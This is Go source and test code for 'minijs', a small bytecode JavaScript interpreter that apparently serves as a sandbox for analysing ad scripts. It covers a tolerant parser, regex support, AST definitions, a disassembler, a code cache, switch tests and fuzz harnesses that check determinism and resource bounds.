				t.Fatalf("strict-valid input produced %d tolerant errors; first: %v", len(errs), errs[0])
			}
			if len(prog.Body) != len(strict.Body) {
				t.Fatalf("tolerant parse has %d statements, strict has %d", len(prog.Body), len(strict.Body))
			}
		}
		// Deterministic: an independent parse yields identical errors and
		// an identical program (compared structurally via disassembly).
		prog2, errs2 := ParseTolerant(src)
		if len(errs) != len(errs2) {
			t.Fatalf("error count differs between parses: %d vs %d", len(errs), len(errs2))
		}
		for i := range errs {
			if errs[i].Error() != errs2[i].Error() {
				t.Fatalf("error %d differs: %q vs %q", i, errs[i].Error(), errs2[i].Error())
			}
		}
		if CompileProgram(nil, prog) == nil && CompileProgram(nil, prog2) == nil {
			if d1, d2 := Disassemble(prog), Disassemble(prog2); d1 != d2 {
				t.Fatalf("recovered programs differ:\n%s\nvs\n%s", d1, d2)
			}
		}
		// The recovered program must execute (to completion, a throw, or
		// budget exhaustion) deterministically.
		run := func(p *Program) (string, string) {
			in := New()
			in.Budget = fuzzEvalBudget
			in.MaxDepth = 64
			v, err := in.RunProgram(p)
			if err != nil {
				return "", err.Error()
			}
			out := ToString(v)
			if len(out) > 1<<12 {
				out = out[:1<<12]
			}
			return out, ""
		}
		r1, e1 := run(prog)
		r2, e2 := run(prog2)
		if r1 != r2 || e1 != e2 {
			t.Fatalf("recovered execution nondeterministic:\n run1 = (%q, %q)\n run2 = (%q, %q)", r1, e1, r2, e2)
		}
	})
}
