package minijs

import "testing"

func TestSwitchBasics(t *testing.T) {
	expectStr(t, `
		var out = "";
		switch (2) {
		case 1: out = "one"; break;
		case 2: out = "two"; break;
		case 3: out = "three"; break;
		}
		out
	`, "two")
}

func TestSwitchDefault(t *testing.T) {
	expectStr(t, `
		var out = "";
		switch ("zz") {
		case "a": out = "a"; break;
		default: out = "dflt"; break;
		}
		out
	`, "dflt")
}

func TestSwitchFallthrough(t *testing.T) {
	expectStr(t, `
		var out = "";
		switch (1) {
		case 1: out += "1";
		case 2: out += "2";
		case 3: out += "3"; break;
		case 4: out += "4";
		}
		out
	`, "123")
}

func TestSwitchStrictEquality(t *testing.T) {
	// switch uses ===, so "1" does not match 1.
	expectStr(t, `
		var out = "none";
		switch ("1") {
		case 1: out = "number"; break;
		case "1": out = "string"; break;
		}
		out
	`, "string")
}

func TestSwitchNoMatchNoDefault(t *testing.T) {
	expectNum(t, `
		var n = 0;
		switch (9) {
		case 1: n = 1; break;
		}
		n
	`, 0)
}

func TestSwitchDefaultInMiddle(t *testing.T) {
	// Default placed before matching cases is only taken when nothing
	// matches; fallthrough from it continues to later cases.
	expectStr(t, `
		var out = "";
		switch (99) {
		case 1: out += "1"; break;
		default: out += "D";
		case 2: out += "2"; break;
		}
		out
	`, "D2")
}

func TestSwitchReturnInsideFunction(t *testing.T) {
	expectStr(t, `
		function pick(k) {
			switch (k) {
			case "hijack": return "top.location";
			case "cloak": return "redirect";
			default: return "benign";
			}
		}
		pick("cloak") + "|" + pick("x")
	`, "redirect|benign")
}

func TestSwitchInsideLoop(t *testing.T) {
	expectNum(t, `
		var s = 0;
		for (var i = 0; i < 5; i++) {
			switch (i % 2) {
			case 0: s += 10; break;
			case 1: s += 1; break;
			}
		}
		s
	`, 32)
}

func TestSwitchContinuePropagates(t *testing.T) {
	expectNum(t, `
		var s = 0;
		for (var i = 0; i < 4; i++) {
			switch (i) {
			case 1: continue;
			}
			s += i;
		}
		s
	`, 5) // 0 + 2 + 3
}

func TestSwitchSyntaxErrors(t *testing.T) {
	for _, src := range []string{
		`switch (1) { garbage: 1; }`,
		`switch (1) { case 1: break;`,
		`switch (1) { default: 1; default: 2; }`,
		`switch 1 { case 1: break; }`,
	} {
		in := New()
		if _, err := in.Run(src); err == nil {
			t.Errorf("Run(%q) should fail", src)
		}
	}
}
