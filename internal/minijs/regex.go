package minijs

// regex.go backs /pattern/flags literals. Patterns are translated to Go
// regexp (RE2) with the i and m flags mapped to (?i)/(?m); constructs RE2
// cannot express (lookaround, backreferences) make the regex inert — test
// returns false and exec returns null, deterministically — rather than
// aborting the script. lastIndex statefulness of the g flag is not
// simulated; the flag only switches replace-all behaviour in
// String.replace, which keeps execution deterministic under the step
// budget.

import (
	"regexp"
	"strings"
	"sync"
)

// compiledRegex is the lazily-compiled Go translation of one regex literal.
// It lives on the AST node (allocated at parse time), so a cached program
// shared across goroutines races only on the sync.Once.
type compiledRegex struct {
	once sync.Once
	re   *regexp.Regexp
	err  error
}

func (cr *compiledRegex) get(pattern, flags string) (*regexp.Regexp, error) {
	cr.once.Do(func() {
		pre := ""
		if strings.ContainsRune(flags, 'i') {
			pre += "i"
		}
		if strings.ContainsRune(flags, 'm') {
			pre += "m"
		}
		if pre != "" {
			pattern = "(?" + pre + ")" + pattern
		}
		cr.re, cr.err = regexp.Compile(pattern)
	})
	return cr.re, cr.err
}

// regexRuntime ties a regex-valued *Object back to its compiled pattern so
// string methods (replace, match, search, split) can recognize regex
// arguments.
type regexRuntime struct {
	cr     *compiledRegex
	source string
	flags  string
	global bool
}

func (rr *regexRuntime) re() (*regexp.Regexp, bool) {
	re, err := rr.cr.get(rr.source, rr.flags)
	if err != nil || re == nil {
		return nil, false
	}
	return re, true
}

// newRegexObject builds the script-visible object for a regex literal. Each
// evaluation yields a fresh object (as in JS), all sharing one compiled
// pattern.
func newRegexObject(lit *RegexLit) *Object {
	rr := &regexRuntime{
		cr:     lit.rx,
		source: lit.Pattern,
		flags:  lit.Flags,
		global: strings.ContainsRune(lit.Flags, 'g'),
	}
	obj := NewObject()
	obj.Name = "RegExp"
	obj.rx = rr
	obj.Props["source"] = Str(lit.Pattern)
	obj.Props["flags"] = Str(lit.Flags)
	obj.Props["global"] = Bool(rr.global)
	obj.Props["ignoreCase"] = Bool(strings.ContainsRune(lit.Flags, 'i'))
	obj.Props["multiline"] = Bool(strings.ContainsRune(lit.Flags, 'm'))
	obj.Props["lastIndex"] = Num(0)
	obj.Props["test"] = regexTest.Value()
	obj.Props["exec"] = regexExec.Value()
	obj.Props["toString"] = regexToString.Value()
	return obj
}

// thisRegex extracts the regex runtime from a method receiver.
func thisRegex(this Value) (*regexRuntime, bool) {
	if obj := this.Obj(); obj != nil && obj.rx != nil {
		return obj.rx, true
	}
	return nil, false
}

// Shared regex method objects; the regex they operate on arrives as `this`.
var regexTest = newFrozenNative("test", func(_ *Interp, this Value, args []Value) (Value, error) {
	rr, ok := thisRegex(this)
	if !ok {
		return Bool(false), nil
	}
	re, ok := rr.re()
	if !ok {
		return Bool(false), nil
	}
	return Bool(re.MatchString(ToString(arg(args, 0)))), nil
})

var regexExec = newFrozenNative("exec", func(_ *Interp, this Value, args []Value) (Value, error) {
	rr, ok := thisRegex(this)
	if !ok {
		return Null(), nil
	}
	s := ToString(arg(args, 0))
	re, ok := rr.re()
	if !ok {
		return Null(), nil
	}
	loc := re.FindStringSubmatchIndex(s)
	if loc == nil {
		return Null(), nil
	}
	res := NewArray()
	for i := 0; i*2 < len(loc); i++ {
		if loc[i*2] < 0 {
			res.Elems = append(res.Elems, Undefined())
		} else {
			res.Elems = append(res.Elems, Str(s[loc[i*2]:loc[i*2+1]]))
		}
	}
	res.Set("index", Num(float64(loc[0])))
	res.Set("input", Str(s))
	return res.Value(), nil
})

var regexToString = newFrozenNative("toString", func(_ *Interp, this Value, _ []Value) (Value, error) {
	obj := this.Obj()
	if obj == nil || obj.rx == nil {
		return Str(""), nil
	}
	return Str("/" + obj.rx.source + "/" + obj.rx.flags), nil
})

// regexArg returns the regex runtime when v is a regex object.
func regexArg(v Value) (*regexRuntime, bool) {
	if obj := v.Obj(); obj != nil && obj.rx != nil {
		return obj.rx, true
	}
	return nil, false
}

// regexReplace implements String.replace with a regex pattern: the g flag
// selects replace-all, and $1..$9/$& in the replacement refer to capture
// groups. An inert (untranslatable) pattern replaces nothing.
func regexReplace(s string, rr *regexRuntime, repl string) string {
	re, ok := rr.re()
	if !ok {
		return s
	}
	tmpl := replTemplate(repl)
	if rr.global {
		return re.ReplaceAllString(s, tmpl)
	}
	loc := re.FindStringSubmatchIndex(s)
	if loc == nil {
		return s
	}
	var b strings.Builder
	b.WriteString(s[:loc[0]])
	b.Write(re.ExpandString(nil, tmpl, s, loc))
	b.WriteString(s[loc[1]:])
	return b.String()
}

// replTemplate rewrites a JS replacement string ($&, $1..) into Go's Expand
// syntax (${0}, ${1}..), escaping any other dollar sign.
func replTemplate(repl string) string {
	var b strings.Builder
	for i := 0; i < len(repl); i++ {
		c := repl[i]
		if c != '$' {
			b.WriteByte(c)
			continue
		}
		if i+1 < len(repl) {
			switch n := repl[i+1]; {
			case n == '&':
				b.WriteString("${0}")
				i++
				continue
			case n == '$':
				b.WriteString("$$")
				i++
				continue
			case n >= '0' && n <= '9':
				j := i + 1
				for j < len(repl) && repl[j] >= '0' && repl[j] <= '9' {
					j++
				}
				b.WriteString("${" + repl[i+1:j] + "}")
				i = j - 1
				continue
			}
		}
		b.WriteString("$$")
	}
	return b.String()
}
