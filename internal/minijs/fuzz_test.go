package minijs

// Native fuzz targets for the script-engine substrate (DESIGN.md §12). The
// honeyclient executes hostile ad JavaScript, so the invariants here are the
// sandbox guarantees the rest of the pipeline assumes:
//
//   FuzzLexer:  no panic; token stream is bounded by input length.
//   FuzzParser: no panic; errors are *SyntaxError values, never crashes
//               (the nesting-depth guard is what makes "((((..." safe).
//   FuzzEval:   no panic; execution is step-bounded (terminates under a
//               small budget) and deterministic — two fresh interpreters
//               produce byte-identical results and error strings.

import (
	"testing"

	"madave/internal/fuzzutil"
)

// jsBugSeeds replay the minimized inputs for the bugs this harness found.
var jsBugSeeds = []string{
	`unescape("a+b%20c");`,                         // '+' must survive unescape
	`encodeURIComponent(" ");`,                     // must be "%20", not "+"
	`escape("a b/c@d");`,                           // legacy escape set
	`decodeURIComponent("a+b%2Bc");`,               // '+' stays literal
	`var n = 1e999999999;`,                         // exponent clamp
	`((((((((((1))))))))));`,                       // parser depth (benign)
	`var a = []; a.push(a); "" + a;`,               // cyclic array ToString
	`var a = []; a.push(a); +a;`,                   // cyclic array ToNumber
	`var a = []; a[1000000000] = 1;`,               // dense-growth cap
	`Array(4294967295);`,                           // ctor allocation cap
	`var s = "x"; while (true) { s = s + s; }`,     // doubling-concat cap
	`var a = Array(1000); a.join("aaaaaaaaaaaa");`, // join cap path
}

func addScriptSeeds(f *testing.F) {
	fuzzutil.SeedStrings(f, jsBugSeeds...)
	fuzzutil.SeedStrings(f, fuzzutil.Scripts(0x15, 24)...)
}

func FuzzLexer(f *testing.F) {
	addScriptSeeds(f)
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 1<<14 {
			t.Skip("oversized input")
		}
		toks, err := Lex(src)
		if err != nil {
			if _, ok := err.(*SyntaxError); !ok {
				t.Fatalf("lexer error is %T, want *SyntaxError: %v", err, err)
			}
			return
		}
		if len(toks) == 0 || toks[len(toks)-1].Kind != TokEOF {
			t.Fatalf("token stream not EOF-terminated (%d tokens)", len(toks))
		}
		if len(toks) > len(src)+1 {
			t.Fatalf("%d tokens from %d bytes: tokens must consume input", len(toks), len(src))
		}
	})
}

func FuzzParser(f *testing.F) {
	addScriptSeeds(f)
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 1<<14 {
			t.Skip("oversized input")
		}
		prog, err := Parse(src)
		if err != nil {
			if _, ok := err.(*SyntaxError); !ok {
				t.Fatalf("parser error is %T, want *SyntaxError: %v", err, err)
			}
			return
		}
		if prog == nil {
			t.Fatal("nil program with nil error")
		}
	})
}

// fuzzEvalBudget keeps each exec fast; the oracle is that execution always
// returns (normally, with a throw, or with ErrBudget) — never hangs or
// panics — and is a pure function of the source.
const fuzzEvalBudget = 30_000

func runOnceForFuzz(src string) (result string, errStr string) {
	in := New()
	in.Budget = fuzzEvalBudget
	in.MaxDepth = 64
	v, err := in.Run(src)
	if err != nil {
		return "", err.Error()
	}
	out := ToString(v)
	if len(out) > 1<<12 {
		out = out[:1<<12] // compare a bounded prefix; determinism still holds
	}
	return out, ""
}

func FuzzEval(f *testing.F) {
	addScriptSeeds(f)
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 1<<12 {
			t.Skip("oversized input")
		}
		r1, e1 := runOnceForFuzz(src)
		r2, e2 := runOnceForFuzz(src)
		if r1 != r2 || e1 != e2 {
			t.Fatalf("eval nondeterminism:\n run1 = (%q, %q)\n run2 = (%q, %q)", r1, e1, r2, e2)
		}
	})
}
