package minijs

// The AST mirrors the JavaScript subset the lexer accepts. Nodes carry the
// line of their first token so runtime errors can point at source.

// Node is implemented by every AST node.
type Node interface {
	nodeLine() int
}

type pos struct{ Line int }

func (p pos) nodeLine() int { return p.Line }

// ---- Statements ----

// Program is the root node: a list of statements.
type Program struct {
	pos
	Body []Stmt
	// code is the compiled bytecode chunk, set by Compile. It is written
	// once before the program is published (cached/shared) and read-only
	// afterwards, so concurrent executions need no locking.
	code *chunk
}

// Stmt is implemented by statement nodes.
type Stmt interface{ Node }

// VarDecl declares one or more variables: var a = 1, b;
type VarDecl struct {
	pos
	Names []string
	Inits []Expr // nil entry means no initializer
}

// FuncDecl is a named function declaration statement.
type FuncDecl struct {
	pos
	Name string
	Fn   *FuncLit
}

// ExprStmt wraps an expression used as a statement.
type ExprStmt struct {
	pos
	X Expr
}

// BlockStmt is a `{ ... }` statement list.
type BlockStmt struct {
	pos
	Body []Stmt
}

// IfStmt is if/else.
type IfStmt struct {
	pos
	Cond Expr
	Then Stmt
	Else Stmt // may be nil
}

// WhileStmt is a while loop.
type WhileStmt struct {
	pos
	Cond Expr
	Body Stmt
}

// DoWhileStmt is a do/while loop.
type DoWhileStmt struct {
	pos
	Body Stmt
	Cond Expr
}

// ForStmt is the classic three-clause for loop. Init may be a VarDecl or
// ExprStmt; any clause may be nil.
type ForStmt struct {
	pos
	Init Stmt
	Cond Expr
	Post Expr
	Body Stmt
}

// ForInStmt iterates property names of an object or indices of an array.
type ForInStmt struct {
	pos
	VarName string
	Decl    bool // true when written as `for (var k in x)`
	Obj     Expr
	Body    Stmt
}

// ReturnStmt returns from a function; Value may be nil.
type ReturnStmt struct {
	pos
	Value Expr
}

// BreakStmt breaks the innermost loop.
type BreakStmt struct{ pos }

// ContinueStmt continues the innermost loop.
type ContinueStmt struct{ pos }

// ThrowStmt throws a value.
type ThrowStmt struct {
	pos
	Value Expr
}

// TryStmt is try/catch/finally. Catch may be nil when only finally is given.
type TryStmt struct {
	pos
	Body      *BlockStmt
	CatchName string
	Catch     *BlockStmt // nil if no catch clause
	Finally   *BlockStmt // nil if no finally clause
}

// EmptyStmt is a bare semicolon.
type EmptyStmt struct{ pos }

// SwitchStmt is switch (tag) { case ...: ... default: ... }. Cases use
// strict equality and fall through unless a break intervenes, like
// JavaScript.
type SwitchStmt struct {
	pos
	Tag   Expr
	Cases []SwitchCase
}

// SwitchCase is one case (or default when Test is nil) clause.
type SwitchCase struct {
	Test Expr // nil for default
	Body []Stmt
}

// ---- Expressions ----

// Expr is implemented by expression nodes.
type Expr interface{ Node }

// NumberLit is a numeric literal.
type NumberLit struct {
	pos
	Value float64
}

// StringLit is a string literal.
type StringLit struct {
	pos
	Value string
}

// BoolLit is true/false.
type BoolLit struct {
	pos
	Value bool
}

// NullLit is null.
type NullLit struct{ pos }

// UndefinedLit is undefined.
type UndefinedLit struct{ pos }

// Ident is a variable reference.
type Ident struct {
	pos
	Name string
}

// ThisExpr is `this`.
type ThisExpr struct{ pos }

// ArrayLit is [a, b, c].
type ArrayLit struct {
	pos
	Elems []Expr
}

// ObjectLit is {k: v, ...}.
type ObjectLit struct {
	pos
	Keys   []string
	Values []Expr
}

// FuncLit is a function expression: function (params) { body }.
type FuncLit struct {
	pos
	Name   string // optional, for named function expressions
	Params []string
	Body   *BlockStmt
	// UsesArguments reports whether the identifier `arguments` appears
	// anywhere in the function's source (conservatively including nested
	// functions). Call sites materialize the `arguments` array object only
	// when set — the sole way a script can observe the binding is by naming
	// it, so eliding it otherwise is invisible.
	UsesArguments bool
	// code is the function body compiled to bytecode (see Program.code for
	// the publication discipline). Nil when the program was never compiled;
	// the tree-walker then executes Body directly.
	code *chunk
}

// RegexLit is a regular-expression literal: /pattern/flags. The Go regexp
// translation is compiled lazily, once per AST node (see compileRegex).
type RegexLit struct {
	pos
	Pattern string
	Flags   string
	rx      *compiledRegex
}

// UnaryExpr is op x, e.g. -x, !x, typeof x. Prefix ++/-- are represented as
// UpdateExpr.
type UnaryExpr struct {
	pos
	Op string
	X  Expr
}

// UpdateExpr is ++x, --x, x++, x--.
type UpdateExpr struct {
	pos
	Op     string // "++" or "--"
	X      Expr   // must be assignable
	Prefix bool
}

// BinaryExpr is x op y for arithmetic/comparison/bitwise operators.
type BinaryExpr struct {
	pos
	Op   string
	X, Y Expr
}

// LogicalExpr is && or || with short-circuit evaluation.
type LogicalExpr struct {
	pos
	Op   string
	X, Y Expr
}

// CondExpr is cond ? a : b.
type CondExpr struct {
	pos
	Cond, Then, Else Expr
}

// AssignExpr is x = y or a compound assignment like x += y.
type AssignExpr struct {
	pos
	Op     string // "=", "+=", ...
	Target Expr   // Ident, MemberExpr or IndexExpr
	Value  Expr
}

// CallExpr is f(args) or obj.m(args).
type CallExpr struct {
	pos
	Callee Expr
	Args   []Expr
}

// NewExpr is new F(args).
type NewExpr struct {
	pos
	Callee Expr
	Args   []Expr
}

// MemberExpr is obj.name.
type MemberExpr struct {
	pos
	Obj  Expr
	Name string
}

// IndexExpr is obj[expr].
type IndexExpr struct {
	pos
	Obj   Expr
	Index Expr
}
