package minijs

import (
	"context"
	"fmt"
	"strings"
	"testing"
)

// bigScript is large enough that the compiler's periodic ctx check (every
// 256 emits) fires at least once mid-lowering.
func bigScript() string {
	var b strings.Builder
	for i := 0; i < 200; i++ {
		fmt.Fprintf(&b, "var v%d = %d + %d;\n", i, i, i*2)
	}
	b.WriteString("v199;")
	return b.String()
}

// TestCodeCacheCancelledCompileNotStored is the ErrSkipStore-style gate for
// the code cache: a compile truncated by context cancellation must deliver
// an error and leave nothing behind, and a retry with a live context must
// compile and store normally.
func TestCodeCacheCancelledCompileNotStored(t *testing.T) {
	cc := NewCodeCache(16, nil)
	src := bigScript()

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	prog, errs, err := cc.Load(ctx, src, false)
	if err == nil {
		t.Fatalf("cancelled compile returned no error (prog=%v errs=%v)", prog != nil, errs)
	}
	if !strings.Contains(err.Error(), context.Canceled.Error()) {
		t.Fatalf("cancelled compile error = %q, want it to wrap %q", err, context.Canceled)
	}
	if st := cc.Stats(); st.Stores != 0 {
		t.Fatalf("cancelled compile stored an entry: stats %+v", st)
	}
	if n := cc.c.Len(); n != 0 {
		t.Fatalf("cancelled compile left %d cache entries", n)
	}

	// Retry with a live context: compiles, runs, and stores.
	prog, errs, err = cc.Load(context.Background(), src, false)
	if err != nil || len(errs) != 0 {
		t.Fatalf("retry Load failed: err=%v errs=%v", err, errs)
	}
	if prog.code == nil {
		t.Fatalf("retry did not compile the program")
	}
	if st := cc.Stats(); st.Stores != 1 {
		t.Fatalf("retry should store exactly one entry: stats %+v", st)
	}
	in := New()
	v, err := in.RunProgram(prog)
	if err != nil {
		t.Fatalf("RunProgram: %v", err)
	}
	if got := ToString(v); got != "597" {
		t.Fatalf("cached program result = %q, want 597", got)
	}

	// Third load is a pure hit.
	before := cc.Stats().Hits
	if _, _, err := cc.Load(context.Background(), src, false); err != nil {
		t.Fatalf("hit Load failed: %v", err)
	}
	if after := cc.Stats().Hits; after != before+1 {
		t.Fatalf("expected a cache hit (hits %d -> %d)", before, after)
	}
}

// TestCodeCacheNegativeCachesSyntaxErrors checks that a strict-mode syntax
// error — a pure function of the source — is cached as a value, so the same
// broken script is rejected without a second parse.
func TestCodeCacheNegativeCachesSyntaxErrors(t *testing.T) {
	cc := NewCodeCache(16, nil)
	src := "var = ;"
	prog, _, err1 := cc.Load(context.Background(), src, false)
	if err1 == nil || prog != nil {
		t.Fatalf("broken script should fail strict load, got prog=%v err=%v", prog, err1)
	}
	if st := cc.Stats(); st.Stores != 1 {
		t.Fatalf("syntax error should be negatively cached: stats %+v", st)
	}
	_, _, err2 := cc.Load(context.Background(), src, false)
	if err2 == nil || err2.Error() != err1.Error() {
		t.Fatalf("cached error mismatch: %v vs %v", err1, err2)
	}

	// The same source in tolerant mode is a distinct key and must succeed
	// with recorded diagnostics.
	tprog, terrs, terr := cc.Load(context.Background(), src, true)
	if terr != nil {
		t.Fatalf("tolerant load failed: %v", terr)
	}
	if tprog == nil || len(terrs) == 0 {
		t.Fatalf("tolerant load: prog=%v errs=%d, want program plus diagnostics", tprog != nil, len(terrs))
	}
}

// TestCodeCacheTolerantDeterministic pins that two tolerant loads of the
// same broken source return the identical program object (cache hit) and
// that the compiled artifact is stable.
func TestCodeCacheTolerantDeterministic(t *testing.T) {
	cc := NewCodeCache(16, nil)
	src := "var a = 1; if (a { broken; } fine = a + 1;"
	p1, e1, err := cc.Load(context.Background(), src, true)
	if err != nil {
		t.Fatalf("load 1: %v", err)
	}
	p2, e2, err := cc.Load(context.Background(), src, true)
	if err != nil {
		t.Fatalf("load 2: %v", err)
	}
	if p1 != p2 {
		t.Fatalf("tolerant reload did not hit the cache")
	}
	if len(e1) != len(e2) {
		t.Fatalf("diagnostic count changed between loads: %d vs %d", len(e1), len(e2))
	}
	if p1.code == nil {
		t.Fatalf("recovered program should compile to bytecode")
	}
}
