package minijs

// disasm.go renders compiled bytecode as a stable, human-reviewable listing.
// The golden tests pin these listings per script so compiler changes show up
// as reviewable diffs.

import (
	"fmt"
	"sort"
	"strconv"
	"strings"
)

var opNames = map[opcode]string{
	opCost:          "cost",
	opConst:         "const",
	opPop:           "pop",
	opDup:           "dup",
	opSwap:          "swap",
	opGetVar:        "getvar",
	opAssignVar:     "assignvar",
	opDefine:        "define",
	opThis:          "this",
	opTypeofVar:     "typeofvar",
	opMakeFunc:      "makefunc",
	opHoistFunc:     "hoistfunc",
	opMakeArray:     "makearray",
	opMakeObject:    "makeobject",
	opMakeRegex:     "makeregex",
	opGetMember:     "getmember",
	opSetMember:     "setmember",
	opDelMember:     "delmember",
	opGetIndex:      "getindex",
	opSetIndex:      "setindex",
	opUnary:         "unary",
	opBinary:        "binary",
	opUpdateNum:     "updatenum",
	opJump:          "jump",
	opJumpFalse:     "jumpfalse",
	opJumpTrue:      "jumptrue",
	opCaseJump:      "casejump",
	opCall:          "call",
	opNew:           "new",
	opReturn:        "return",
	opThrow:         "throw",
	opTry:           "try",
	opBreak:         "break",
	opContinue:      "continue",
	opPushScope:     "pushscope",
	opPopScope:      "popscope",
	opForInInit:     "forininit",
	opForInNext:     "forinnext",
	opSetCompletion: "setcompletion",
}

// Disassemble returns a deterministic textual listing of a compiled
// program: the top-level chunk followed by every nested function and
// try-block chunk in definition order. The program must have been compiled.
func Disassemble(prog *Program) string {
	if prog.code == nil {
		return "<not compiled>\n"
	}
	var b strings.Builder
	disasmChunk(&b, prog.code, "program")
	return b.String()
}

func disasmChunk(b *strings.Builder, ch *chunk, path string) {
	fmt.Fprintf(b, "== %s (%s)\n", path, ch.name)
	for pc, ins := range ch.code {
		fmt.Fprintf(b, "%4d  %-13s", pc, opNames[ins.op])
		disasmOperands(b, ch, ins)
		if ins.cost > 0 {
			fmt.Fprintf(b, "  ; cost=%d", ins.cost)
		}
		b.WriteByte('\n')
	}
	for i, fn := range ch.funcs {
		disasmChunk(b, fn.code, fmt.Sprintf("%s/fn%d", path, i))
	}
	for i, td := range ch.trys {
		disasmChunk(b, td.body, fmt.Sprintf("%s/try%d.body", path, i))
		if td.catch != nil {
			disasmChunk(b, td.catch, fmt.Sprintf("%s/try%d.catch", path, i))
		}
		if td.finally != nil {
			disasmChunk(b, td.finally, fmt.Sprintf("%s/try%d.finally", path, i))
		}
	}
}

func disasmOperands(b *strings.Builder, ch *chunk, ins instr) {
	switch ins.op {
	case opConst:
		fmt.Fprintf(b, " %s", disasmValue(ch.consts[ins.a]))
	case opGetVar, opAssignVar, opDefine, opTypeofVar, opGetMember, opSetMember, opDelMember:
		fmt.Fprintf(b, " %s", ch.atoms[ins.a])
	case opMakeFunc:
		fmt.Fprintf(b, " fn%d", ins.a)
	case opHoistFunc:
		fmt.Fprintf(b, " fn%d %s", ins.a, ch.atoms[ins.b])
	case opMakeArray, opNew:
		fmt.Fprintf(b, " %d", ins.a)
	case opMakeObject:
		fmt.Fprintf(b, " {%s}", strings.Join(ch.keys[ins.a], ","))
	case opMakeRegex:
		rx := ch.regexes[ins.a]
		fmt.Fprintf(b, " /%s/%s", rx.Pattern, rx.Flags)
	case opUnary:
		fmt.Fprintf(b, " %s", unaryOps[ins.a])
	case opBinary:
		fmt.Fprintf(b, " %s", binaryOps[ins.a])
	case opUpdateNum:
		fmt.Fprintf(b, " %+d prefix=%d", ins.a, ins.b)
	case opJump, opJumpFalse, opJumpTrue, opCaseJump, opForInNext:
		fmt.Fprintf(b, " ->%d", ins.a)
	case opCall:
		fmt.Fprintf(b, " argc=%d callee=%s", ins.a, ch.atoms[ins.b])
	case opTry:
		td := ch.trys[ins.a]
		fmt.Fprintf(b, " try%d", ins.a)
		if td.catch != nil {
			fmt.Fprintf(b, " catch=%s", ch.atoms[td.catchAtom])
		}
		if td.finally != nil {
			b.WriteString(" finally")
		}
		if td.breakPC >= 0 {
			fmt.Fprintf(b, " break->%d", td.breakPC)
		}
		if td.contPC >= 0 {
			fmt.Fprintf(b, " cont->%d", td.contPC)
		}
	}
}

func disasmValue(v Value) string {
	switch v.Kind() {
	case KindUndefined:
		return "undefined"
	case KindNull:
		return "null"
	case KindBool:
		return strconv.FormatBool(v.Bool())
	case KindNumber:
		return formatNumber(v.Num())
	case KindString:
		return strconv.Quote(v.Str())
	case KindObject:
		x := v.Obj()
		if x.IsArray {
			return "[array]"
		}
		if len(x.Props) > 0 {
			keys := make([]string, 0, len(x.Props))
			for k := range x.Props {
				keys = append(keys, k)
			}
			sort.Strings(keys)
			return "{" + strings.Join(keys, ",") + "}"
		}
		return "[object]"
	}
	return fmt.Sprintf("%v", v)
}
