package minijs

import "fmt"

// Parse parses src into a Program or returns a *SyntaxError.
func Parse(src string) (*Program, error) {
	toks, err := Lex(src)
	if err != nil {
		return nil, err
	}
	p := &parser{toks: toks}
	prog := &Program{pos: pos{Line: 1}}
	for !p.atEOF() {
		stmt, err := p.parseStmt()
		if err != nil {
			return nil, err
		}
		prog.Body = append(prog.Body, stmt)
	}
	return prog, nil
}

// maxParseErrors is the tolerant parser's error budget. Past it the parser
// sets the abort flag and returns what it has: an input that broken is
// noise, and a fixed budget bounds recovery work on adversarial garbage.
const maxParseErrors = 50

// ParseTolerant parses src, recovering from malformed input instead of
// failing: each defect is recorded and the parser resynchronizes at the next
// statement boundary, so a broken ad script degrades to the statements that
// do parse rather than to nothing. The returned program is never nil; errs
// lists every recovered defect (lexical and syntactic) in source order.
// Recovery is a pure function of src, so execution of the partial program
// stays deterministic.
func ParseTolerant(src string) (*Program, []*SyntaxError) {
	toks, lexErrs := LexTolerant(src)
	p := &parser{toks: toks, tolerant: true, errs: lexErrs}
	if len(p.errs) >= maxParseErrors {
		p.errs = p.errs[:maxParseErrors]
		p.abort = true
	}
	prog := &Program{pos: pos{Line: 1}}
	for !p.atEOF() && !p.abort {
		from := p.i
		stmt, err := p.parseStmt()
		if err != nil {
			p.recordErr(err)
			p.resync(from)
			continue
		}
		prog.Body = append(prog.Body, stmt)
	}
	return prog, p.errs
}

type parser struct {
	toks  []Token
	i     int
	depth int
	// tolerant switches statement-level error recovery on; errs collects
	// the recovered defects and abort stops the parse once the error
	// budget is spent.
	tolerant bool
	errs     []*SyntaxError
	abort    bool
}

// recordErr notes a recovered parse error and trips the abort flag when the
// budget is exhausted. Errors past the budget are dropped, not recorded.
func (p *parser) recordErr(err error) {
	if p.abort {
		return
	}
	se, ok := err.(*SyntaxError)
	if !ok {
		t := p.cur()
		se = &SyntaxError{Line: t.Line, Col: t.Col, Msg: err.Error()}
	}
	p.errs = append(p.errs, se)
	if len(p.errs) >= maxParseErrors {
		p.abort = true
	}
}

// resync skips tokens after a parse error until a plausible statement
// boundary: just past a ';', or right before a '}', a statement keyword, or
// EOF. It always consumes at least one token relative to from, so recovery
// cannot loop.
func (p *parser) resync(from int) {
	if p.i == from {
		// The parser consumed nothing; skip the offending token. A stray
		// ';' or '}' is itself a statement boundary — scanning further
		// would swallow the next (possibly intact) statement.
		t := p.cur()
		p.advance()
		if t.Kind == TokPunct && (t.Text == ";" || t.Text == "}") {
			return
		}
	}
	for !p.atEOF() {
		t := p.cur()
		if t.Kind == TokPunct {
			if t.Text == ";" {
				p.advance()
				return
			}
			if t.Text == "}" {
				return
			}
		}
		if t.Kind == TokKeyword {
			switch t.Text {
			case "var", "function", "if", "while", "do", "for", "return",
				"break", "continue", "throw", "try", "switch",
				"case", "default":
				// case/default matter when resyncing inside a switch body:
				// stopping before them keeps the remaining clauses.
				return
			}
		}
		p.advance()
	}
}

// maxParseDepth bounds statement/expression nesting. Real ad scripts nest a
// few dozen levels; without a bound, input like "((((((..." recurses once
// per byte and can exhaust the goroutine stack, which is an unrecoverable
// crash rather than a catchable syntax error.
const maxParseDepth = 1000

func (p *parser) enter() error {
	p.depth++
	if p.depth > maxParseDepth {
		return p.errf("nesting exceeds %d levels", maxParseDepth)
	}
	return nil
}

func (p *parser) leave() { p.depth-- }

func (p *parser) cur() Token  { return p.toks[p.i] }
func (p *parser) atEOF() bool { return p.cur().Kind == TokEOF }

func (p *parser) advance() Token {
	t := p.toks[p.i]
	if p.i < len(p.toks)-1 {
		p.i++
	}
	return t
}

func (p *parser) errf(format string, args ...any) error {
	t := p.cur()
